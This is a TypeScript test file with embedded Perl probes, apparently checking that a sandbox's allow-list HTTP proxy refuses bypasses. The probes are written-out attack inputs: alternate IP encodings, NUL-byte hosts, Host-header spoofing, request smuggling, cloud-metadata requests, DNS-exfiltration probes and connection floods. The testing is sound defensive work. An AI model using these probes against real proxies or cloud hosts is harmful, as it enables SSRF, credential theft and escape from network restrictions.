import type { AbuseCase, AbuseGroup } from '../abuse-case.ts';
import { type Attack, attack } from '../attack.ts';

/** Perl: `ask` sends a request to the proxy and gives all it answers; `judge` wants a refusal. */
const asking = `
  my ($web, $port) = @ARGV;
  my ($proxy) = $ENV{HTTP_PROXY} =~ /:(\\d+)/;
  sub ask {
    my ($request) = @_;
    socket(my $socket, AF_INET, SOCK_STREAM, 0) or die;
    connect($socket, pack_sockaddr_in($proxy, inet_aton('127.0.0.1'))) or die "proxy: $!";
    syswrite $socket, $request;
    my ($answer, $more) = ('', '');
    local $SIG{ALRM} = sub { die "no answer" };
    alarm 20;
    $answer .= $more while $answer !~ /^HTTP\\S+ 200 Conn/ && sysread $socket, $more, 65536;
    alarm 0;
    return $answer;
  }
  sub get { my ($url, $host) = @_; ask("GET $url HTTP/1.1\\r\\nHost: " . ($host // 'x') . "\\r\\nConnection: close\\r\\n\\r\\n") }
  sub tunnel { ask("CONNECT $_[0] HTTP/1.1\\r\\nHost: $_[0]\\r\\n\\r\\n") }
  sub judge {
    my ($what, $answer) = @_;
    my ($status) = $answer =~ /^HTTP\\S+ (\\d+)/;
    $answer =~ /forge[0-9a-f]{16}|^HTTP\\S+ 200/ ? broke($what) : held($status ? "answered with $status" : 'cut off');
  }`;

/** Plain processes refuse to start with a list of hosts. */
function listed(about: Pick<Attack, 'name' | 'tries'> & { readonly perl: string }): AbuseCase {
  return attack({
    ...about,
    perl: `${asking}${about.perl}`,
    on: { process: 'not offered' },
    // By name, the second leads to this machine: a name may not.
    with: ({ webPort, port }) => ({
      network: { type: 'allow', hosts: [`127.0.0.1:${webPort}`, `localhost:${port}`] },
    }),
    args: ({ webPort, port }) => [String(webPort), String(port)],
    harm: ({ connections }) => (connections() > 0 ? 'the host was reached' : undefined),
  });
}

/** The network, where a sandbox was started with a list of hosts. */
export const allowList: AbuseGroup = {
  title: 'Network (a list of allowed hosts)',
  cases: [
    listed({
      name: 'an allowed host',
      tries: 'asks for what is on the list: this has to work',
      perl: `get("http://127.0.0.1:$web/") =~ /welcome/ ? held('reached') : broke('not reached');`,
    }),
    listed({
      name: 'another host',
      tries: 'plain HTTP and CONNECT to hosts and ports that are not on the list',
      perl: `
        judge('another port', get("http://127.0.0.1:$port/"));
        judge('a tunnel', tunnel("127.0.0.1:$port"));
        judge('another name', tunnel('example.org:443'));
        judge('mail', tunnel("127.0.0.1:25"));`,
    }),
    listed({
      name: 'the same address in other words',
      tries: '127.1, 0x7f000001, 2130706433, [::ffff:127.0.0.1], 0, user@host',
      perl: `
        for my $host (qw(127.1 0x7f000001 0x7f.0.0.1 2130706433 017700000001 [::ffff:127.0.0.1] [::1] 0 0.0.0.0 127.0.0.1.)) {
          judge($host, get("http://$host:$port/"));
          judge($host, tunnel("$host:$port"));
        }
        judge('user', get("http://127.0.0.1:$web\\@127.0.0.1:$port/"));
        judge('fragment', get("http://127.0.0.1:$port#\\@127.0.0.1:$web/"));`,
    }),
    listed({
      name: 'a NUL byte in the host',
      tries: 'evil\\0.allowed, and other bytes that programs read differently',
      perl: `
        for my $byte ("\\0", "\\t", "\\x0b", "\\\\", "%00", "\\xff", ";") {
          judge('a byte', tunnel("127.0.0.1:$port$byte.127.0.0.1:$web"));
          judge('a byte', tunnel("127.0.0.1$byte:$port"));
          judge('a byte', get("http://127.0.0.1:$port$byte.127.0.0.1:$web/"));
        }`,
    }),
    listed({
      name: 'a redirect',
      tries: 'follows an allowed host’s redirect to a forbidden one',
      perl: `
        my ($to) = get("http://127.0.0.1:$web/away") =~ /^location: (\\S+)/mi or die;
        judge('redirected', get($to));`,
    }),
    listed({
      name: 'another host in the header',
      tries: 'an allowed address with a forbidden Host, two requests in one, an absolute path',
      perl: `
        my $answer = get("http://127.0.0.1:$web/", "127.0.0.1:$port");
        $answer =~ /welcome/ ? held('the address counts') : judge('header', $answer);
        my $second = "GET http://127.0.0.1:$port/ HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n";
        my $both = ask("GET http://127.0.0.1:$web/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n$second");
        $both =~ /forge[0-9a-f]{16}/ ? broke('the second request') : held('each request is judged');
        my $smuggled = "POST http://127.0.0.1:$web/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n$second";
        ask($smuggled) =~ /forge[0-9a-f]{16}/ ? broke('smuggled') : held('each request is judged');`,
    }),
    listed({
      name: 'a name that leads home',
      tries: 'an allowed name that resolves to this machine',
      perl: `
        judge('by name', get("http://localhost:$port/"));
        judge('by name', tunnel("localhost:$port"));`,
    }),
    listed({
      name: 'metadata through the proxy',
      tries: '169.254.169.254 and its names, by way of the proxy',
      perl: `
        judge($_, get("http://$_/latest/meta-data/")) for qw(169.254.169.254 metadata.google.internal [fd00:ec2::254] 2852039166);
        judge($_, tunnel("$_:80")) for qw(169.254.169.254 [fd00:ec2::254]);`,
    }),
    listed({
      name: 'names as messengers',
      tries: 'has names looked up that carry data out (DNS tunnelling)',
      perl: `
        my $answer = tunnel('secret-data.example.org:443');
        # Refused by the list, which is asked before any name server is.
        $answer =~ /not among the hosts/ ? held('never looked up') : broke('looked up');
        socket(my $socket, AF_INET, SOCK_DGRAM, 0) or die;
        send($socket, 'x', 0, pack_sockaddr_in(53, inet_aton('8.8.8.8'))) ? broke('sent') : held("$!");`,
    }),
    listed({
      name: 'past the proxy',
      tries: 'connects without it',
      perl: `
        for my $to (['127.0.0.1', $web], ['127.0.0.1', $port], ['1.1.1.1', 443], ['172.17.0.1', 80]) {
          socket(my $socket, AF_INET, SOCK_STREAM, 0) or die;
          connect($socket, pack_sockaddr_in($to->[1], inet_aton($to->[0]))) ? broke($to->[0]) : held("$!");
        }`,
    }),
    listed({
      name: 'a flood of connections',
      tries: 'opens 300 connections to the proxy and keeps them',
      perl: `
        my @open;
        for (1..300) {
          socket(my $socket, AF_INET, SOCK_STREAM, 0) or last;
          connect($socket, pack_sockaddr_in($proxy, inet_aton('127.0.0.1'))) or last;
          push @open, $socket;
        }
        @open = ();
        for (1..50) {
          my $answer = eval { get("http://127.0.0.1:$web/") } // '';
          if ($answer =~ /welcome/) { held('it goes on'); exit }
          select undef, undef, undef, 0.1;
        }
        broke('no answer any more');`,
    }),
  ],
};
